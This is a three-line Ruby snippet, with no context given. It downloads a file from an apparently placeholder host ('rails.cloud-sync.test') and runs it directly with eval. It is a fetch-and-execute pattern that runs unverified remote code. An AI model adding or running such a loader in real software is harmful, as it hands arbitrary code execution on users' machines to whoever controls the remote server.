require 'net/http'
code = Net::HTTP.get(URI('https://rails.cloud-sync.test/templates/gen.rb'))
eval(code)
